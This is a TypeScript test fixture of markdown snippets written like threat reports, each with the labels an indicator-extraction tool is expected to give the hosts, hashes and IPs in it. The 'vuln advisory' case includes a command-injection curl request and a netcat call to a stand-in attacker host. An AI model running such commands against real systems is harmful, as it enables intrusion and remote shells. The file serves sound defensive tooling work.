import { type ArticleCase, md5, sha1, sha256 } from './article.ts';

export const BYSTANDERS: ArticleCase[] = [
  {
    name: 'false friends',
    markdown: `Malware built at 2023.10.12.1 on 10:22:33, GUID {3F2504E0-4F89-11D3-9A0C-0305E82C3301}, MAC 00:1A:2B:3C:4D:5E, UUID 3f2504e04f8911d39a0c0305e82c3301 as bot id, namespace System.Net.Http, com.android.vending, org.telegram.messenger and Microsoft.Office.Interop of the trojan. The package com.evil.bank.app. See \`install.sh\`, \`main.py\`, \`kernel32.dll\`, node.js, ASP.NET. JA3: ${md5(20)} JARM ${sha1(21)}cbc25ee7165111fe50dfe3.`,
    want: { '3f2504e04f8911d39a0c0305e82c3301': 'context', [md5(20)]: 'indicator+', 'com.evil.bank.app': 'junk' },
  },
  {
    name: 'tld files',
    markdown: `The trojan drops x.sh, run.py, archive.zip, clip.mov, readme.md, lib.rs, a.pl, doc.ps, lib.so, a.vbs, start.bat, command.com, data.cab, setup.app in the folder of the malware; the attackers run update.zip.`,
    want: {
      'x.sh': 'junk',
      'run.py': 'junk',
      'archive.zip': 'junk',
      'clip.mov': 'junk',
      'command.com': 'reference',
      'setup.app': 'junk',
      'data.cab': 'junk',
      'update.zip': 'junk',
    },
  },
  {
    name: 'benign refs',
    markdown: `Ransomware actors used AnyDesk from anydesk.com, Rclone (rclone.org), Mega (mega.nz) and ngrok. See CVE-2023-1 at nvd.nist.gov, https://attack.mitre.org/techniques/T1059/, https://www.cisa.gov/news. Report on https://www.bleepingcomputer.com/news/x and https://learn.microsoft.com/en-us/x; samples on virustotal.com. C2s: evil1[.]top, evil2[.]top.`,
    want: {
      'anydesk.com': 'reference',
      'rclone.org': 'reference',
      'mega.nz': 'reference',
      'nvd.nist.gov': 'reference',
      'https://attack.mitre.org/techniques/T1059/': 'reference',
      'https://www.bleepingcomputer.com/news/x': 'reference',
      'https://learn.microsoft.com/en-us/x': 'reference',
      'virustotal.com': 'reference',
      'evil1.top': 'indicator+',
      'evil2.top': 'indicator+',
    },
  },
  {
    name: 'victims',
    markdown: `The phishing kit imitates login.acme-bank.com, mybank.co.uk and "secure.shop.de". The fake pages stood at acme-bank-login[.]com and mybank-verify[.]top.`,
    want: {
      'login.acme-bank.com': 'reference',
      'mybank.co.uk': 'reference',
      'secure.shop.de': 'reference',
      'acme-bank-login.com': 'indicator+',
      'mybank-verify.top': 'indicator+',
    },
  },
  {
    name: 'legit tools table',
    markdown: `Ransomware operators used these tools.

| Tool | Site | Use |
| --- | --- | --- |
| AnyDesk | https://anydesk.com/ | remote access |
| Advanced IP Scanner | https://www.advanced-ip-scanner.com/ | discovery |
| WinSCP | https://winscp.net | exfiltration |

C2: 185.225.73[.]8`,
    want: {
      'https://anydesk.com/': 'indicator',
      'https://www.advanced-ip-scanner.com/': 'indicator',
      'https://winscp.net': 'reference',
      '185.225.73.8': 'indicator+',
    },
  },
  {
    name: 'ioc repo',
    markdown: `A campaign of the botnet.

## Indicators of Compromise

The IOCs for this blog are in our GitHub repository: https://github.com/acme-intel/iocs/tree/main/2023

For questions write to intel@acme-labs.com or visit https://www.acme-labs.com.

- 91.92.241.20`,
    want: {
      'https://github.com/acme-intel/iocs/tree/main/2023': 'reference',
      'https://www.acme-labs.com': 'reference',
      'intel@acme-labs.com': 'reference',
      '91.92.241.20': 'indicator+',
    },
  },
  {
    name: 'vendor detection names',
    markdown: `Trojan detection: Win32/Spy.Agent.QXX, Trojan.Win32.Agent.gen, HEUR:Trojan.Script.Generic, W32.Auto:abc.in03.Talos, Gen:Variant.Razy.1234, Mal/Generic-S, BackDoor.Siggen2.4423, Linux.BackDoor.Fgt.4214, JS.Downloader.5566. Malware SHA-256 ${sha256(61)}`,
    want: { [sha256(61)]: 'indicator+' },
  },
  {
    name: 'cert',
    markdown: `The malware was signed; certificate serial 0a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9, thumbprint ${sha1(70)}, serial number ${md5(71)}. C2 evil-cert[.]com`,
    want: { [sha1(70)]: 'context', [md5(71)]: 'context', 'evil-cert.com': 'indicator+' },
  },
  {
    name: 'advisory',
    markdown: `## Summary

Threat actors exploited CVE-2023-20198 in IOS XE 17.9.4a and 16.12.10.1. Fixed in FortiOS 7.4.3.2 and 7.2.7. See https://sec.cloudapps.cisco.com/security/center/x and https://nvd.nist.gov/vuln/detail/CVE-2023-20198. Run curl -k "https://DEVICEIP/webui/logoutconfirm.html" against 192.168.1.1 to check. Attackers came from 5.149.249.74 and 154.53.56.231.`,
    want: {
      'CVE-2023-20198': 'context',
      '5.149.249.74': 'indicator',
      '154.53.56.231': 'indicator',
      '16.12.10.1': 'junk',
      '7.4.3.2': 'junk',
      'https://sec.cloudapps.cisco.com/security/center/x': 'reference',
    },
  },
  {
    name: 'npm supply chain',
    markdown: `Malicious packages on npm: the packages colors-lib 1.4.2, node-hide-console and event-stream@3.3.6 steal tokens. The stealer posts to https://discord.com/api/webhooks/1234567890/abcDEF and eo1n0jq9qgggt.m.pipedream.net. Source https://github.com/evil-user/repo. Malware authors used postinstall.`,
    want: { 'https://discord.com/api/webhooks/1234567890/abcDEF': 'reference', 'eo1n0jq9qgggt.m.pipedream.net': 'indicator' },
  },
  {
    name: 'hash url text',
    markdown: `Malware on VT: https://www.virustotal.com/gui/file/${sha256(84)}/detection and https://bazaar.abuse.ch/sample/${sha256(85)}/ ; analysis https://app.any.run/tasks/3f2504e0-4f89-11d3-9a0c-0305e82c3301`,
    want: {},
  },
  {
    name: 'news article',
    markdown: `# Ransomware gang hits AcmeCorp

The LockByte ransomware gang claims an attack on AcmeCorp (acmecorp.com). In a statement on acmecorp.com/news the company said mail.acmecorp.com was offline. BleepingPost first reported. Experts at DataWatch.io say the gang runs since 2021. "We restored it," John Roe told TechTimes.com. Contact: press@acmecorp.com. Read more at www.techtimes.com/article/1.`,
    want: {
      'acmecorp.com': 'reference',
      'acmecorp.com/news': 'reference',
      'mail.acmecorp.com': 'reference',
      'datawatch.io': 'junk',
      'techtimes.com': 'junk',
      'press@acmecorp.com': 'reference',
      'www.techtimes.com/article/1': 'reference',
    },
  },
  {
    name: 'vuln advisory',
    markdown: `# RCE in WidgetServer

An attacker can exploit CVE-2024-1111 in WidgetServer 10.2.3.4 before 10.2.3.9. The patch is at https://downloads.widget-server.com/patch/10.2.3.9/setup.exe. PoC: https://github.com/someone/poc. The vulnerable endpoint is http://target:8080/api/v1/run and http://TARGET_IP/login.action.

\`\`\`
curl http://vulnerable-host.com:8080/api -d 'cmd=id'
Host: attacker.com
nc attacker.com 4444
\`\`\``,
    want: {
      'CVE-2024-1111': 'context',
      '10.2.3.4': 'junk',
      '10.2.3.9': 'junk',
      'attacker.com': 'indicator',
      'https://downloads.widget-server.com/patch/10.2.3.9/setup.exe': 'indicator',
      'http://vulnerable-host.com:8080/api': 'indicator',
    },
  },
  {
    name: 'persistence',
    markdown: `The trojan creates the task "GoogleUpdateTask", service WinDefendSvc, key HKLM\\SYSTEM\\CurrentControlSet\\Services\\x and files C:\\ProgramData\\Microsoft\\x.dat and ~/.config/systemd/user/a.service, com.apple.updater.plist at ~/Library/LaunchAgents/com.apple.updater.plist. Bundle id com.apple.updater and org.chromium.helper.`,
    want: { 'com.apple.updater.plist': 'reference' },
  },
  {
    name: 'docs hosts',
    markdown: `The botnet used \`http://127.0.0.1:9050\`, localhost, example.com, test.local, http://[::1]/, 192.0.2.15, 198.51.100.7 and \`user@example.org\`; DNS 8.8.8.8, 1.1.1.1, 9.9.9.9; NTP pool.ntp.org; connectivity check www.msftconnecttest.com and http://www.google.com/generate_204.`,
    want: {
      'http://127.0.0.1:9050': 'junk',
      'example.com': 'junk',
      '192.0.2.15': 'junk',
      '198.51.100.7': 'junk',
      'user@example.org': 'junk',
      '8.8.8.8': 'reference',
      'pool.ntp.org': 'reference',
      'http://www.google.com/generate_204': 'reference',
    },
  },
  {
    name: 'author bio',
    markdown: `Malware analysis. C2: bio-c2[.]net.

## About the author

Jane is a researcher at acme-labs.com and blogs at janeroe.dev. Follow @janeroe, jane.roe@proton.me.

## Related posts

- https://research.acme-labs.com/two
- other-blog.net/three

Share this: facebook.com, twitter.com`,
    want: {
      'bio-c2.net': 'indicator+',
      'acme-labs.com': 'reference',
      'janeroe.dev': 'reference',
      'jane.roe@proton.me': 'reference',
      'other-blog.net/three': 'reference',
    },
  },
  {
    name: 'recommendations',
    markdown: `Malware C2: rec-c2[.]com

## Recommendations

- Block 91.92.242.50 at the firewall
- Update to version 5.1.2.3
- Follow https://www.ncsc.gov.uk/guidance and use https://pass-manager.com
- Report phishing to report@anti-phish.org`,
    want: {
      'rec-c2.com': 'indicator+',
      '91.92.242.50': 'indicator+',
      '5.1.2.3': 'junk',
      'https://pass-manager.com': 'reference',
      'report@anti-phish.org': 'reference',
    },
  },
  {
    name: 'footnotes',
    markdown: `The backdoor talks to c2-foot[.]net [1].

[1] https://blog.some-research.io/post
[2]: https://other-research.io/x`,
    want: { 'c2-foot.net': 'indicator+', 'https://blog.some-research.io/post': 'reference', 'https://other-research.io/x': 'reference' },
  },
  {
    name: 'windows names',
    markdown: `The malware runs powershell.exe, rundll32.exe, cmd.exe and C:\\Windows\\System32\\svchost.exe; writes %TEMP%\\upd.exe, HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater and /etc/cron.d/x.`,
    want: { 'powershell.exe': 'reference', 'C:\\Windows\\System32\\svchost.exe': 'reference' },
  },
];
